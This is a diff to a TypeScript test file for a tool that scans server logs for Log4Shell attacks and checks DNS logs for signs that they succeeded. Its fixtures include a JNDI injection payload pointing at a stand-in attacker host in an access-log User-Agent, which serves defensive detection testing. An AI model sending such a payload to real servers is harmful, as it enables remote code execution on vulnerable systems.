@@ -343,7 +343,8 @@ test('reading waits where nobody takes what was told, so that memory stays bound
   // A window was read, with some five thousand attacks; the three others were not.
   expect(running.counts().unpackedBytes).toBeLessThan(2_200_000)
   let count = 1
-  while ((await events.next()).done !== true) count++
+  for (let next = await events.next(); next.done !== true; next = await events.next())
+    if (next.value.is === 'finding') count++
   expect(count).toBe(20_000)
 })
 
@@ -357,4 +358,49 @@ test('an abort ends it within a moment; what was told stands', async () => {
 
   expect(count).toBeGreaterThanOrEqual(100)
   expect(count).toBeLessThan(20_000)
+})
+
+test('attacks are joined with what other logs of the hunt show, packed ones too', async () => {
+  const access =
+    '203.0.113.83 - - [10/Dec/2021:12:43:11 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://x.evil.example/a}"\n'
+  const queries = (name: string): string =>
+    `10-Dec-2021 12:43:12.000 client @0x7f 10.0.0.5#53 (${name}): query: ${name} IN A + (10.0.0.53)\n`
+  const folder = folderOf({
+    'access.log': access,
+    'named.log.gz': gzipSync(`${queries('www.example').repeat(20_000)}${queries('x.evil.example')}`),
+    'app.log': '2021-12-10 12:43:11 nothing to see\n',
+  })
+
+  const { findings, notes } = await told({ paths: [folder] }, { blockBytes: 100_000 })
+
+  expect(findings.map(({ outcome }) => outcome)).toEqual(['likely'])
+  expect(findings[0]?.evidence.at(-1)).toMatchObject({ kind: 'witness', line: 20_001, format: 'bind-queries' })
+  expect(notes).toEqual([`what came of attacks was looked for in ${join(folder, 'named.log.gz')}`])
+})
+
+test('a record in a later part of a large log has the number of its line', async () => {
+  const queries = (name: string): string =>
+    `10-Dec-2021 12:43:12.000 client @0x7f 10.0.0.5#53 (${name}): query: ${name} IN A + (10.0.0.53)\n`
+  const folder = folderOf({
+    'access.log':
+      '203.0.113.83 - - [10/Dec/2021:12:43:11 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://x.evil.example/a}"\n',
+    'named.log': `${queries('www.example').repeat(20_000)}${queries('x.evil.example')}${queries('x.evil.example')}`,
+  })
+
+  const { findings } = await told({ paths: [folder] }, { blockBytes: 100_000 })
+
+  expect(findings[0]?.evidence.slice(1)).toHaveLength(1)
+  expect(findings[0]?.evidence.at(-1)).toMatchObject({
+    line: 20_001,
+    says: expect.stringContaining('2 times') as string,
+  })
+})
+
+test('without a window, attacks are told as they are found', async () => {
+  const folder = folderOf({ 'a.log': `${attack(1)}\n` })
+
+  const { findings, notes } = await told({ paths: [folder] }, { windowMs: 0 })
+
+  expect(findings.map(({ outcome }) => outcome)).toEqual(['attempt'])
+  expect(notes).toEqual([])
 })
